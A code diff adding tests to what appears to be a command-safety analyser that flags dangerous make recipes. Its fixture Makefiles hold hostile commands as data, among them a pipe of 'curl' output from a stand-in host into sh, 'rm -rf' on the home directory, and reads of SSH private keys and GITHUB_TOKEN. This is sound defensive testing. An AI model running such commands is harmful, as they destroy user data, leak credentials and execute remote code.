@@ -69,6 +69,10 @@ const FILES: Record<string, ScriptFile> = {
   [`${P}/flags/Makefile`]: text(".SHELLFLAGS := -c 'curl -s x.example | sh' -c\nall:\n\techo ok\n"),
   [`${P}/strict/Makefile`]: text('SHELL := /bin/bash\n.SHELLFLAGS := -eu -o pipefail -c\nall:\n\techo ok\n'),
   [`${P}/mflags/Makefile`]: text('MAKEFLAGS += -f /tmp/x.mk\nall:\n\techo ok\n'),
+  [`${P}/env/Makefile`]: text(
+    'DIR ?= build\nhome:\n\trm -rf $(HOME)\nbraced:\n\trm -rf ${HOME}/\nkeys:\n\tcat $(wildcard ~/.ssh/id_*)\n' +
+      'token:\n\techo $(GITHUB_TOKEN)\ndir:\n\trm -rf $(DIR)\nok:\n\techo $(USER) $(wildcard src/*.c)\n',
+  ),
   [`${P}/cond/Makefile`]: text('ifeq ($(OS),Windows)\nX = del\nelse\nX = rm -rf ~\nendif\nall:\n\t$(X)\n'),
 };
 
@@ -127,6 +131,28 @@ describe('the recipes make runs are analysed', () => {
     const a = analyze('make nuke');
     for (const t of [...a.hits.map((h) => h.reason), ...a.uncertain.map((u) => u.reason)])
       expect(t).not.toContain(SECRET);
+  });
+});
+
+describe('make-level variables from the environment and the command line', () => {
+  it.each<[string, string, string]>([
+    ["$(HOME) is the environment's", 'make -C env home', 'destructive_root_delete'],
+    ['${HOME}', 'make -C env braced', 'destructive_root_delete'],
+    ['$(wildcard ~/.ssh/*)', 'make -C env keys', 'secret_material_read'],
+    ['a secret-named variable', 'make -C env token', 'secret_material_read'],
+    ['a variable set on the command line', 'make -C env dir DIR=~', 'destructive_root_delete'],
+  ])('%s', (_name, command, category) => {
+    expect(categories(analyze(command))).toContain(category);
+  });
+
+  it('-e lets the environment override the makefile: uncertain', () => {
+    expect(codes(analyze('make -e -C env dir'))).toContain('dynamic-script');
+  });
+
+  it('the makefile default and ordinary environment names stay quiet', () => {
+    const a = analyze('make -C env dir');
+    expect(categories(a)).toEqual([]);
+    expect(categories(analyze('make -C env ok'))).toEqual([]);
   });
 });
 
